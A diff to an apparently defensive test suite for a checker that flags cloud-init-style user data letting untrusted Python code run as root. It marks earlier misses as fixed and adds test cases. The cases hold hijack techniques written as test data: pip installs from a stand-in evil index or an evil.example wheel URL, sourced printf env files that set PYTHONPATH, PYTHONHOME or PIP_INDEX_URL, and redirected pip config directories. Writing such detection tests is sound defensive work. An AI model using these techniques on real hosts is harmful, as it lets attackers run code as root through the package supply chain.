@@ -313,7 +313,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url (another index) and Python docs "site" (a .pth in site-packages: "Lines starting with import (followed by space or tab) are executed", "at every Python startup"; sitecustomize likewise): the index's srvx wheel may ship a .pth/sitecustomize that runs as root in serve.py, which imports only json. The pack: pip as a library (pip.main) is a known package call; scriptPipModules reads only shell pip lines, and pythonUnreadCode judges each import against pythonLibraryWritten, never an untrusted install's site-packages. Fix: any pip/uv install the pack does not trust (another index, a file, a URL; pip run from Python: pip.main, pip._internal, subprocess/os.system pip) marks site-packages changed in a way it cannot compute, so every later python run without -S/-I is unread (as pythonStdlibZipChanged does for the zip).
+    // Was a MISS (fixed in round 78): (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url (another index) and Python docs "site" (a .pth in site-packages: "Lines starting with import (followed by space or tab) are executed", "at every Python startup"; sitecustomize likewise): the index's srvx wheel may ship a .pth/sitecustomize that runs as root in serve.py, which imports only json. The pack: pip as a library (pip.main) is a known package call; scriptPipModules reads only shell pip lines, and pythonUnreadCode judges each import against pythonLibraryWritten, never an untrusted install's site-packages. Fix: any pip/uv install the pack does not trust (another index, a file, a URL; pip run from Python: pip.main, pip._internal, subprocess/os.system pip) marks site-packages changed in a way it cannot compute, so every later python run without -S/-I is unread (as pythonStdlibZipChanged does for the zip).
     dev(
         "tune.py: pip.main(['install', '-i', EVIL, 'srvx']) (pip as a library); serve.py later imports json only",
         tune(
@@ -323,9 +323,8 @@ const insecure: NodeCase[] = [
             [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (PIP-UNTRUSTED-SITE) insecure accepted, got []. As the pip.main case (pip docs --index-url; Python docs "site" .pth import lines): the literal command is judged as root's own command, which does not taint later Python runs. Same place and fix.
+    // Was a MISS (fixed in round 78): (PIP-UNTRUSTED-SITE) insecure accepted, got []. As the pip.main case (pip docs --index-url; Python docs "site" .pth import lines): the literal command is judged as root's own command, which does not taint later Python runs. Same place and fix.
     dev(
         "tune.py: subprocess.run(['pip3', 'install', '-i', EVIL, 'srvx']); serve.py later imports json only",
         tune(
@@ -335,9 +334,9 @@ const insecure: NodeCase[] = [
             [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
         ),
         REFUSED,
-        true,
     ),
     // MISS: (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url / -i ("Base URL of the Python Package Index"): srvx comes from another index, and its wheel's .pth import line or sitecustomize runs in every later root Python process (Python docs "site"), here tune.py, which imports only json. The pack withdraws trust in the module srvx (scriptPipModules retracted) but pythonUnreadCode never asks whether an untrusted install changed site-packages. Fix: as the pip.main case.
+    // Still open (round 78): a shell install from another index tainting every later Python run conflicts with the pinned secure redteam77-secure pip-r-index (--extra-index-url of the operator's mirror, then python3 importing boto3: accepted by design, DECIDED round 69 operator downloads); the pack cannot tell the operator's index from EVIL by name. The fix needs a decision: withdraw that pin (every other-index install makes site-packages unread), or keep only the per-module retraction. pip run from Python (pip.main, subprocess) is refused (pythonPipRun).
     dev(
         "user data: pip3 install -i EVIL srvx (a .pth in its wheel runs at every start); tune.py imports json only",
         tune(
@@ -365,7 +364,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a": "Each variable or function that is created or modified is given the export attribute"; printf(1) writes `PYTHONPATH=/var/cache/ops/lib` into the env file; sourcing it exports PYTHONPATH, and Python docs "The initialization of the sys.path module search path" puts it before the standard library: the tarball's json.py runs as root. The same file written by a heredoc or echo IS refused (pythonRootShadowed), so the pack reads a sourced file's assignments only when its text holds them literally; printf's formatted output is not read as the sourced script (ScriptView.environment, rootReads.ts source/. runner, has no PYTHONPATH). Fix: source the text printfOutput computes (as for echo), and a sourced file whose text the pack cannot compute makes every PYTHON*/PIP_*/UV_* variable unknown.
+    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a": "Each variable or function that is created or modified is given the export attribute"; printf(1) writes `PYTHONPATH=/var/cache/ops/lib` into the env file; sourcing it exports PYTHONPATH, and Python docs "The initialization of the sys.path module search path" puts it before the standard library: the tarball's json.py runs as root. The same file written by a heredoc or echo IS refused (pythonRootShadowed), so the pack reads a sourced file's assignments only when its text holds them literally; printf's formatted output is not read as the sourced script (ScriptView.environment, rootReads.ts source/. runner, has no PYTHONPATH). Fix: source the text printfOutput computes (as for echo), and a sourced file whose text the pack cannot compute makes every PYTHON*/PIP_*/UV_* variable unknown.
     dev(
         "user data: printf '%s=%s' PYTHONPATH dir > env; set -a; source env; tune.py imports json",
         tune(
@@ -381,7 +380,6 @@ const insecure: NodeCase[] = [
             ],
         ),
         REFUSED,
-        true,
     ),
     // Held: Python docs "PYTHONHOME" ("Change the location of the standard Python libraries"): the tarball is the standard library root imports at start (encodings, json): arbitrary root code.
     dev(
@@ -433,7 +431,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (PIP-CONFIG-DIRS) insecure accepted, got []. pip docs "Configuration", Unix Global: "In a \"pip\" subdirectory of any of the paths set in the environment variable XDG_CONFIG_DIRS (if it exists), for example /etc/xdg/pip/pip.conf": the tarball's pip/pip.conf under /opt/cfg may set index-url, so srvx comes from anywhere and tune.py runs it as root. The pack: configuredWords (rootReads.ts) reads fixed defaults (/etc/pip.conf, /etc/xdg/pip/pip.conf, /root/...), and pythonPipInstalled withdraws trust only for PIP_/UV_ variables. Fix: read XDG_CONFIG_DIRS/XDG_CONFIG_HOME/HOME as pip does (each dir's pip/pip.conf), or withdraw all pip trust when any of them is set.
+    // Was a MISS (fixed in round 78): (PIP-CONFIG-DIRS) insecure accepted, got []. pip docs "Configuration", Unix Global: "In a \"pip\" subdirectory of any of the paths set in the environment variable XDG_CONFIG_DIRS (if it exists), for example /etc/xdg/pip/pip.conf": the tarball's pip/pip.conf under /opt/cfg may set index-url, so srvx comes from anywhere and tune.py runs it as root. The pack: configuredWords (rootReads.ts) reads fixed defaults (/etc/pip.conf, /etc/xdg/pip/pip.conf, /root/...), and pythonPipInstalled withdraws trust only for PIP_/UV_ variables. Fix: read XDG_CONFIG_DIRS/XDG_CONFIG_HOME/HOME as pip does (each dir's pip/pip.conf), or withdraw all pip trust when any of them is set.
     dev(
         "user data: export XDG_CONFIG_DIRS=/opt/cfg; tar of a download into /opt/cfg; pip3 install srvx",
         pipRun("dev-py78-pip-xdg-config-dirs-nodes", [
@@ -442,7 +440,6 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // Held: pip docs "Configuration", User: $HOME/.config/pip/pip.conf: with HOME moved the downloaded file is pip's user configuration (any index).
     dev(
@@ -455,7 +452,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a" and pip docs "Configuration" ("pip's command line options can be set with environment variables": PIP_INDEX_URL): the sourced printf output exports PIP_INDEX_URL, srvx comes from another index and runs as root. The pack: scriptPipModules' round-77 word scan looks for a literal `PIP_` in user data (here `%s_INDEX_URL` and `PIP` apart), shellSetsComputedName reads assignments on the lines, not a sourced file's text, and view.environment holds no PIP_ key. Fix: as the printf PYTHONPATH case (source printf's computed text; a sourced file of unknown text withdraws all pip trust).
+    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a" and pip docs "Configuration" ("pip's command line options can be set with environment variables": PIP_INDEX_URL): the sourced printf output exports PIP_INDEX_URL, srvx comes from another index and runs as root. The pack: scriptPipModules' round-77 word scan looks for a literal `PIP_` in user data (here `%s_INDEX_URL` and `PIP` apart), shellSetsComputedName reads assignments on the lines, not a sourced file's text, and view.environment holds no PIP_ key. Fix: as the printf PYTHONPATH case (source printf's computed text; a sourced file of unknown text withdraws all pip trust).
     dev(
         "user data: printf '%s_INDEX_URL=%s' PIP EVIL > env; set -a; . env; pip3 install srvx",
         pipRun("dev-py78-pip-set-a-printf-nodes", [
@@ -467,7 +464,6 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // Held: bash(1) "source" runs the downloaded file in the current shell: its PIP_* variables are unknown; refused as a program made at boot.
     dev(
@@ -543,7 +539,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -o allexport" (same as -a) and pip docs "Configuration" environment variables: as the set -a printf case; same place and fix.
+    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -o allexport" (same as -a) and pip docs "Configuration" environment variables: as the set -a printf case; same place and fix.
     dev(
         "user data: set -o allexport; source a printf-written env (PIP + _INDEX_URL); pip3 install srvx",
         pipRun("dev-py78-pip-allexport-printf-nodes", [
@@ -555,7 +551,6 @@ const insecure: NodeCase[] = [
             "pip3 install srvx",
         ]),
         REFUSED,
-        true,
     ),
     // Held: timeout(1) and nice(1) run their command unchanged: tune.py writes /etc/cron.d/ops (crontab(5)).
     dev(
@@ -672,6 +667,54 @@ const insecure: NodeCase[] = [
             'a = numpy.load("/etc/sysctl.d/99-ops.conf", mmap_mode="r+")',
             "a[0] = 1",
         ]),
+        REFUSED,
+    ),
+    // ===== round 78 fixes: pip and env neighbours (fix78-pip) =====
+    // Insecure: pip docs "pip install" (a wheel by URL: "pip install https://.../SomePackage-1.0-py2.py3-none-any.whl") run from Python (subprocess): its .pth lines run in every later Python start (Python docs "site").
+    dev(
+        "tune.py: subprocess.check_call(['pip3', 'install', URL of a wheel]); serve.py later imports json only",
+        tune(
+            "dev-py78-pip-subprocess-url-fix78",
+            [
+                "import subprocess",
+                'subprocess.check_call(["pip3", "install", "https://evil.example/srvx-1.0-py3-none-any.whl"])',
+            ],
+            [],
+            [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
+        ),
+        REFUSED,
+    ),
+    // Insecure: printf(1) writes PYTHONHOME=DIR, `set -a` exports it when sourced (bash(1) "set"); Python docs "PYTHONHOME" ("Change the location of the standard Python libraries"): the tarball is the standard library root runs.
+    dev(
+        "user data: printf 'PYTHONHOME=%s\\n' DIR > env; set -a; . env; tarball there; tune.py",
+        tune(
+            "dev-py78-set-a-printf-pythonhome-fix78",
+            ["import json", "print(json.dumps(1))"],
+            [
+                "mkdir -p /etc/ops",
+                "printf 'PYTHONHOME=%s\\n' /var/cache/ops/py > /etc/ops/py.env",
+                ...untar("/var/cache/ops/py"),
+                "set -a",
+                ". /etc/ops/py.env",
+                "set +a",
+            ],
+        ),
+        REFUSED,
+    ),
+    // Insecure: pip docs "Configuration", User: "$XDG_CONFIG_HOME/pip/pip.conf" (the tarball's, any index): srvx is unknown root code.
+    dev(
+        "user data: export XDG_CONFIG_HOME=/opt/cfg; tar of a download into /opt/cfg; pip3 install srvx",
+        pipRun("dev-py78-pip-xdg-config-home-fix78", [
+            "export XDG_CONFIG_HOME=/opt/cfg",
+            ...untar("/opt/cfg"),
+            "pip3 install srvx",
+        ]),
+        REFUSED,
+    ),
+    // Insecure: env(1) removes PIP_NO_INPUT but sets PIP_INDEX_URL (an assignment operand of env: "Set each NAME to VALUE in the environment"): srvx from another index.
+    dev(
+        "user data: env -u PIP_NO_INPUT PIP_INDEX_URL=EVIL pip3 install srvx",
+        pipRun("dev-py78-pip-env-unset-and-set-fix78", [`env -u PIP_NO_INPUT PIP_INDEX_URL=${EVIL} pip3 install srvx`]),
         REFUSED,
     ),
 ];
@@ -820,22 +863,18 @@ const secure: NodeCase[] = [
             ["curl -fsSLo /var/cache/ops/d.zip https://evil.example/d.zip"],
         ),
     ),
-    // MISS: (PIP-MENTION, secure refused) a bash comment runs nothing (bash(1) "COMMENTS": a word beginning with # "causes that word and all remaining characters on that line to be ignored"), so pip installs tenacity from the default index (DECIDED round 74: trusted). The pack refuses "imports tenacity, a module user data did not write": scriptPipModules' round-77 scan `(?<![\w$])(?:PIP|UV)_` runs over the raw texts, comments included. Fix: scan shellCommandLines' words (comments cut), as the install lines themselves are read.
+    // Was a MISS (fixed in round 78): (PIP-MENTION, secure refused) a bash comment runs nothing (bash(1) "COMMENTS": a word beginning with # "causes that word and all remaining characters on that line to be ignored"), so pip installs tenacity from the default index (DECIDED round 74: trusted). The pack refuses "imports tenacity, a module user data did not write": scriptPipModules' round-77 scan `(?<![\w$])(?:PIP|UV)_` runs over the raw texts, comments included. Fix: scan shellCommandLines' words (comments cut), as the install lines themselves are read.
     dev(
         "user data: a comment naming PIP_INDEX_URL; pip3 install tenacity (the default index)",
         tenacity("dev-py78-pip-comment-mention-nodes", [
             "# default index only: do not set PIP_INDEX_URL on these nodes",
             "pip3 install tenacity",
         ]),
-        undefined,
-        true,
     ),
-    // MISS: (PIP-MENTION, secure refused) env(1) "-u, --unset=NAME: remove variable from the environment": pip runs with no PIP_INDEX_URL at all, the default index (pip docs "Configuration"). The pack refuses tenacity as unread: the PIP_ word scan withdraws all trust on any mention. Fix: a name only removed (env -u NAME, unset NAME, env -i) withdraws nothing; or scan only words that may set a variable.
+    // Was a MISS (fixed in round 78): (PIP-MENTION, secure refused) env(1) "-u, --unset=NAME: remove variable from the environment": pip runs with no PIP_INDEX_URL at all, the default index (pip docs "Configuration"). The pack refuses tenacity as unread: the PIP_ word scan withdraws all trust on any mention. Fix: a name only removed (env -u NAME, unset NAME, env -i) withdraws nothing; or scan only words that may set a variable.
     dev(
         "user data: env -u PIP_INDEX_URL pip3 install tenacity (the variable removed)",
         tenacity("dev-py78-pip-env-unset-nodes", ["env -u PIP_INDEX_URL pip3 install tenacity"]),
-        undefined,
-        true,
     ),
     // Secure: Python docs "PYTHONDONTWRITEBYTECODE": "Python won't try to write .pyc files" (loads nothing).
     dev(
@@ -969,6 +1008,37 @@ const secure: NodeCase[] = [
             "dev-py78-numpy-genfromtxt-etc-fix78-nodes",
             ["import numpy", 'print(numpy.genfromtxt("/etc/ops/thresholds.csv", delimiter=","))'],
             heredocFile("/etc/ops/thresholds.csv", ["1,2,3"]),
+        ),
+    ),
+    // ===== round 78 fixes: pip and env secure neighbours (fix78-pip) =====
+    // Secure: bash(1) "unset" removes the variable: pip reads the default index (pip docs "Configuration"); the distro's python3 package is no pip install (dnf(8)).
+    dev(
+        "user data: unset PIP_INDEX_URL; dnf install -y python3; pip3 install tenacity",
+        tenacity("dev-py78-pip-unset-fix78", [
+            "unset PIP_INDEX_URL",
+            "dnf install -y python3",
+            "pip3 install tenacity",
+        ]),
+    ),
+    // Secure: printf(1) writes LOG_LEVEL=info (no PYTHON*/PIP_* name); sourced under set -a, pip reads the default index.
+    dev(
+        "user data: printf 'LOG_LEVEL=%s\\n' info > env; set -a; . env; pip3 install tenacity",
+        tenacity("dev-py78-printf-env-plain-fix78", [
+            "mkdir -p /etc/ops",
+            "printf 'LOG_LEVEL=%s\\n' info > /etc/ops/app.env",
+            "set -a",
+            ". /etc/ops/app.env",
+            "set +a",
+            "pip3 install tenacity",
+        ]),
+    ),
+    // Secure: pip from the default index (DECIDED round 74), then a stdlib-only program: no untrusted install changed site-packages.
+    dev(
+        "user data: pip3 install tenacity; serve.py imports json only",
+        tune(
+            "dev-py78-pip-trusted-then-stdlib-fix78",
+            ["import json", "print(json.dumps(1))"],
+            ["pip3 install tenacity"],
         ),
     ),
 ];
